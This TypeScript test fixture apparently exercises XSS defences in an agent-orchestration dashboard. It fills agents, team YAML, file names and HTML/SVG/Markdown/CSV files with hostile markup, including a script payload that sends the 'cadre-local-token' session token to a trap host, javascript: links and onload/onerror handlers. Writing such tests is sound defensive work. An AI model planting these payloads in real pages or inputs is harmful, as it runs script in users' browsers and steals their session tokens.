// Runs that try to get at the dashboard: markup in every text that comes from teams, vendors, logs and files.

import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { folder } from '../support/folder.ts'

/** Markup that would set `ran`, or ask `trap` for something, if it became part of the page. */
export const evilOf = (trap: string) =>
  `<img src=${trap}/img onerror="globalThis.ran=1"><script>globalThis.ran=1;fetch('${trap}/'+sessionStorage['cadre-local-token'])</script>`

/** Short enough for the name of a file or a run. */
export const NAME = '<img src=x onerror=globalThis.ran=1>'

const js = JSON.stringify

/** A folder of agents that return, throw and say markup. */
export function hostileAgents(trap: string): string {
  const evil = js(evilOf(trap))
  const path = folder()
  writeFileSync(
    join(path, 'evil.ts'),
    `import { agent, AgentError, Type } from 'cadre'
const entry = Type.Object({ name: Type.String({ description: ${evil} }), how: Type.String({ description: 'how' }) })
export default agent({
  type: 'connector', version: '1.0.0', description: ${evil},
  settings: Type.Object({ place: Type.Optional(Type.String({ description: ${evil} })) }),
  doctor: async () => ({ who: ${evil}, missing: [${evil}], text: ${evil} }),
  actions: {
    read: { direction: 'source', effect: 'read', description: ${evil}, entry, async run({ how, name }, context) {
      context.log(${evil}, { field: ${evil} })
      if (how === 'retry' && context.attempt < 2) throw new AgentError(${evil}, { retryable: true, hint: ${evil} })
      if (how === 'fail') throw new AgentError(${evil}, { hint: ${evil} })
      if (how === 'wait') { context.waiting(${evil}); await new Promise((_, no) => context.signal.addEventListener('abort', () => no(new Error('stop')))) }
      await context.write(name, ${evil})
      return { text: ${evil}, data: { ${evil}: ${evil} } }
    } },
    write: { direction: 'target', effect: 'once', description: ${evil}, entry, async run({ how }) {
      return { text: ${evil}, data: {}, external: { id: ${evil}, url: how } }
    } },
  },
  notify: { effect: 'idempotent', entry: Type.Object({}), async run() { throw new AgentError(${evil}) } },
})
`,
  )
  writeFileSync(join(path, `broken.ts`), `throw new Error(${evil})\n`)
  return path
}

/** Files of each kind, under an innocent name and under markup as a name. */
const KINDS = ['html', 'svg', 'md', 'csv', 'json', 'txt', 'png']

/** A team with a run of every kind of trouble; its folder has markup as its name. */
export function hostileTeam(trap: string): string {
  const path = join(folder(), NAME)
  mkdirSync(path)
  const evil = evilOf(trap)
  const page = {
    html: `<!doctype html><body>${evil}`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.ran=1"><script>globalThis.ran=1</script><image href="${trap}/svg"/>${NAME}</svg>`,
    md: [
      `# ${evil}`,
      `[link](javascript:globalThis.ran=1) [data](data:text/html,${NAME}) ![image](${trap}/md)`,
      `[fine](https://example.com/a "${NAME}") <https://example.com/b>`,
      `<iframe src="${trap}/frame"></iframe>`,
      evil,
      `| a | ${NAME} |\n| - | - |\n| ${NAME} | \`${NAME}\` |`,
      `[${NAME}]: javascript:globalThis.ran=1\n\n[${NAME}]`,
      '- [x] task\n\n> quote\n\n```html\n<script>globalThis.ran=1</script>\n```',
    ].join('\n\n'),
    csv: `${NAME},"${evil.replaceAll('"', '""')}"\n${NAME},2\n`,
    json: JSON.stringify({ [evil]: evil }),
    txt: evil,
    png: evil,
  }
  for (const kind of KINDS) writeFileSync(join(path, `page.${kind}`), page[kind as keyof typeof page])
  writeFileSync(
    join(path, 'team.yml'),
    `name: "@local/hostile"
version: 1.0.0
description: ${js(evil)}
inputs:
  - { name: text, type: string, default: ${js(evil)}, description: ${js(evil)} }
  - { name: pick, type: string, default: ${js(NAME)}, choices: [${js(NAME)}, ${js(evil)}] }
outputs:
  - { name: said, type: string, value: "{{ inputs.text }}" }
phases:
  - name: say
    agent: exec
    env: { TEXT: "{{ inputs.text }}" }
    commands:
      - { name: c, run: 'echo "$TEXT"; echo "$TEXT" >&2; cp page.* "$CADRE_OUT/"; cp page.md "$CADRE_OUT/${NAME}.md"; cp page.txt "$CADRE_OUT/${NAME}"' }
  - { name: read, agent: evil, action: read, retry: { attempts: 3, backoff: 1ms }, sources: [{ name: ok, how: retry }] }
  - { name: write, agent: evil, action: write, target_entries: [{ name: one, how: "javascript:globalThis.ran=1" }, { name: two, how: "https://example.com/made" }] }
  - { name: break, agent: evil, action: read, on_failure: continue, sources: [{ name: no, how: fail }] }
  - { name: each, type: map, items: [${js(NAME)}], key: "{{ item }}", team: ./one, inputs: { text: "{{ item }}" } }
  - { name: wait, agent: evil, action: read, sources: [{ name: long, how: wait }] }
  - { name: ask, type: gate, review: { prompt: "{{ inputs.text }}", reviewers: [any], inputs: [{ name: why, type: string, required: true, description: ${js(evil)} }] } }
  - { name: told, agent: evil, notify: [on_start] }
`,
  )
  mkdirSync(join(path, 'one'))
  writeFileSync(
    join(path, 'one/team.yml'),
    `name: "@local/one"
version: 1.0.0
inputs: [{ name: text, type: string, required: true }]
phases: [{ name: say, agent: exec, env: { TEXT: "{{ inputs.text }}" }, commands: [{ name: c, run: 'echo "$TEXT"' }] }]
`,
  )
  return path
}
